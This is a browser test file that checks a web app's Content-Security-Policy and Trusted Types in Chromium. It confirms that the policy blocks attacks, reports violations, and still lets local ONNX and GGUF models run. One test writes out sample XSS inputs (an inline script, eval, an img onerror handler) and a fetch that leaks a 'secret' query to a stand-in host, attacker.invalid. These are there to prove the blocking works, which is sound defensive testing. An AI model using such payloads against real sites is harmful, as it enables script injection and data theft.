// The Content-Security-Policy in real Chromium against the built app (common/csp.ts): the header policy and the page's
// stricter <meta> policy are both in force; an injected inline script, eval, an image and a fetch from hosts the user
// did not set and an HTML string with a handler are each blocked, seen as a `securitypolicyviolation` event, and (for
// what the header policy blocks) reported to a report-uri on a local server; and the app still loads the tiny ONNX model on
// WebGPU and the tiny GGUF on llama.cpp and answers under the policy, with no violation on the way.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TINY_GGUF_FILE, TINY_GGUF_REPO, TINY_REPO } from '../fixtures/paths';
import {
  addCustomRepo,
  APP_URL,
  openCompareSettings,
  sendMessage,
  setAnswerSettings,
  setModelSource,
  useStack,
  waitForAnswer,
  waitForModelReady,
} from './harness';
import { loadSelected, newChat } from './chat-steps';
import { reportFault } from './fault-report';

interface Report {
  directive: string;
  blocked: string;
}

const reports: Report[] = [];
let reportServer: Server | undefined;

// Registered before useStack's hooks, so the report server's address is in the environment when the app server
// loads vite.config.ts (which reads CSP_REPORT_URI).
beforeAll(async () => {
  reportServer = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    request.on('end', () => {
      try {
        const parsed: unknown = JSON.parse(body);
        const entries = Array.isArray(parsed) ? parsed : [parsed];
        for (const entry of entries as Record<string, Record<string, string> | undefined>[]) {
          const legacy = entry['csp-report'];
          const modern = entry.body;
          const report = legacy ?? modern;
          if (!report) continue;
          reports.push({
            directive: report['effective-directive'] ?? report.effectiveDirective ?? report['violated-directive'] ?? '',
            blocked: report['blocked-uri'] ?? report.blockedURL ?? '',
          });
        }
      } catch {
        // Not JSON: not a report.
      }
      response.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => reportServer?.listen(0, '127.0.0.1', resolve));
  const { port } = reportServer.address() as AddressInfo;
  process.env.CSP_REPORT_URI = `http://127.0.0.1:${port}/csp-report`;
});

afterAll(async () => {
  delete process.env.CSP_REPORT_URI;
  await new Promise<void>((resolve) => (reportServer ? reportServer.close(() => resolve()) : resolve()));
});

const stack = useStack({ webgpu: true, mirror: true, serviceWorkers: 'block' });

interface SeenViolation {
  directive: string;
  blocked: string;
  disposition: string;
}

/** Every violation the page sees, from before its first script runs. */
beforeAll(async () => {
  await stack.session.context.addInitScript(() => {
    const seen: { directive: string; blocked: string; disposition: string }[] = [];
    Object.assign(window, { __violations: seen });
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI, disposition: event.disposition });
    });
  });
});

function violations(): Promise<SeenViolation[]> {
  return stack.session.page.evaluate(() => (Reflect.get(window, '__violations') as SeenViolation[] | undefined) ?? []);
}

describe('the Content-Security-Policy', () => {
  it('is sent as a header and added by the page, with Trusted Types, and the app starts with no violation', async () => {
    const { page } = stack.session;
    const response = await page.goto(APP_URL);
    await page.getByTestId('messages').waitFor();
    const header = response?.headers()['content-security-policy'] ?? '';
    expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(header).toContain('report-uri http://127.0.0.1:');
    const page_ = await page.evaluate(() => ({
      meta: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      isolated: crossOriginIsolated,
      inlineScripts: Array.from(document.scripts).filter((script) => !script.src).length,
    }));
    expect(page_.meta).toContain("require-trusted-types-for 'script'");
    expect(page_.meta).toMatch(/connect-src 'self' [^;]*https:\/\/huggingface\.co/);
    expect(page_.meta).not.toMatch(/connect-src[^;]* https: /);
    expect(page_.isolated).toBe(true);
    expect(page_.inlineScripts).toBe(0);
    expect(await violations()).toEqual([]);
    // What the default policy costs an HTML sink: a block the sanitiser has not seen is sanitised (first figure);
    // one it returned itself, like each {@html} block, passes at once (second). Printed, not asserted.
    const sinkMs = await page.evaluate(() => {
      const block = (index: number): string => `<p>${'Some <strong>bold</strong> and <code>code</code> words. '.repeat(20)}${index}</p>`;
      const box = document.createElement('div');
      const runs = 200;
      let started = performance.now();
      for (let index = 0; index < runs; index += 1) box.innerHTML = block(index);
      const unseen = (performance.now() - started) / runs;
      started = performance.now();
      for (let index = 0; index < runs; index += 1) box.innerHTML = block(index);
      return { unseen, sanitised: (performance.now() - started) / runs, kept: box.innerHTML === block(runs - 1) };
    });
    expect(sinkMs.kept).toBe(true);
    console.info('[csp figures]', JSON.stringify({ sinkUnseenBlockMs: Number(sinkMs.unseen.toFixed(3)), sinkSanitisedBlockMs: Number(sinkMs.sanitised.toFixed(3)) }));
  });

  it('blocks and reports an injected inline script, eval, a handler in HTML and a fetch to a host not set', async () => {
    const { page } = stack.session;
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('window.__xssInline = true'));
      document.head.append(script);
      // In a task of its own: DevTools lets code it evaluates call eval, the page's own tasks may not.
      const evalResult = await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)('window.__xssEval = true');
            resolve('ran');
          } catch (error) {
            resolve(error instanceof Error ? error.name : String(error));
          }
        }, 0),
      );
      const box = document.createElement('div');
      document.body.append(box);
      box.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__xssHtml = true"><strong>kept</strong>');
      // An image from a host not set: img-src blocks it in both policies, and the header's report goes out.
      const pixel = new Image();
      const pixelResult = await new Promise<string>((resolve) => {
        pixel.onload = () => resolve('loaded');
        pixel.onerror = () => resolve('blocked');
        pixel.src = 'http://127.0.0.1:9/pixel.png?q=secret';
      });
      let fetchResult = 'fetched';
      try {
        await fetch('https://attacker.invalid/leak?q=secret');
      } catch (error) {
        fetchResult = error instanceof Error ? error.name : String(error);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      const html = box.innerHTML;
      box.remove();
      const flags = ['__xssInline', '__xssEval', '__xssHtml'].filter((name) => Reflect.get(window, name) !== undefined);
      return { flags, evalResult, fetchResult, pixelResult, html };
    });
    expect(outcome).toEqual({ flags: [], evalResult: 'EvalError', fetchResult: 'TypeError', pixelResult: 'blocked', html: '<strong>kept</strong>' });
    const seen = await violations();
    console.info('[csp violations]', JSON.stringify(seen));
    // With Trusted Types on, the script text and the eval string are refused by require-trusted-types-for before
    // script-src is asked; the handler, compiled in the sanitiser's inert copy, by script-src-attr.
    expect(seen.map((entry) => entry.directive)).toEqual(expect.arrayContaining(['require-trusted-types-for', 'connect-src', 'img-src']));
    expect(seen.find((entry) => entry.directive === 'connect-src')?.blocked).toContain('attacker.invalid');
    expect(seen.every((entry) => entry.disposition === 'enforce')).toBe(true);
    // The header policy's report reaches the report server (the page's <meta> cannot report).
    await expect.poll(() => reports.map((report) => report.directive), { timeout: 15_000 }).toContain('img-src');
    console.info('[csp reports]', JSON.stringify(reports));
    reportFault('CSP: inline script injected into the page', 'nothing runs; a securitypolicyviolation event (Trusted Types refuses its text)', 'the page and its state');
    reportFault('CSP: eval', 'EvalError; nothing runs', 'the page and its state');
    reportFault('CSP: an image from a host not set', 'not loaded; reported to the report-uri', 'the data that would have leaked');
    reportFault('CSP: fetch to a host the user did not set', 'the request is refused before it leaves (connect-src)', 'the data that would have leaked');
    reportFault('Trusted Types: an HTML string with a handler', 'the string goes through the sanitiser; the handler is dropped', 'the harmless markup');
  });

  it('loads the tiny ONNX model on WebGPU and the tiny GGUF on llama.cpp, and both answer, with no violation', async () => {
    const { page } = stack.session;
    const violationsBefore = (await violations()).length;
    const reportsBefore = reports.length;
    const started = Date.now();
    await setModelSource(page, stack.mirror.url);
    await addCustomRepo(page, TINY_REPO);
    await setAnswerSettings(page, { maxNewTokens: 8, temperature: 0 });
    await loadSelected(page);
    await waitForModelReady(page);
    await sendMessage(page, 'Hello under the policy');
    const onnx = await waitForAnswer(page);
    expect(onnx.status).toBe('done');
    expect(onnx.content.length).toBeGreaterThan(0);
    const onnxMs = Date.now() - started;

    await newChat(page);
    await addCustomRepo(page, `${TINY_GGUF_REPO}/${TINY_GGUF_FILE}`);
    await setAnswerSettings(page, { maxNewTokens: 8, temperature: 0 });
    await loadSelected(page);
    await waitForModelReady(page);
    expect(await page.getByTestId('model-ready').innerText()).toContain('llama.cpp');
    await sendMessage(page, 'Hello from llama.cpp under the policy');
    const gguf = await waitForAnswer(page);
    expect(gguf.status).toBe('done');
    expect(gguf.content.length).toBeGreaterThan(0);
    console.info('[csp figures]', JSON.stringify({ onnxLoadAndAnswerMs: onnxMs, totalMs: Date.now() - started }));

    // Nothing the page, the engines or their workers did was blocked: the page's events catch the page, the header
    // policy's reports catch the workers too (a worker's violations fire in the worker, not on the document).
    await page.waitForTimeout(1000);
    expect((await violations()).slice(violationsBefore)).toEqual([]);
    expect(reports.slice(reportsBefore)).toEqual([]);
  });

  it('an endpoint on a host the page policy does not name asks for a reload, which then lets the page reach it', async () => {
    const { page } = stack.session;
    await openCompareSettings(page);
    const notice = page.getByTestId('csp-reload');
    expect(await notice.count()).toBe(0);
    await page.getByLabel('Endpoint base URL').fill('https://llm.example.org/v1');
    await page.locator('form', { has: page.getByLabel('Endpoint base URL') }).getByRole('button', { name: 'Save' }).click();
    await notice.waitFor();
    expect(await notice.innerText()).toMatch(/reload it to use the new one/);
    await notice.getByRole('button', { name: 'Reload' }).click();
    await page.getByTestId('open-settings').waitFor();
    const allowed = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    expect(allowed).toContain('https://llm.example.org');
    await openCompareSettings(page);
    expect(await page.getByTestId('csp-reload').count()).toBe(0);
    reportFault('a comparison endpoint on a new host', 'a notice: reload to use it (with a Reload button)', 'the settings; after the reload the page policy names the host');
  });
});
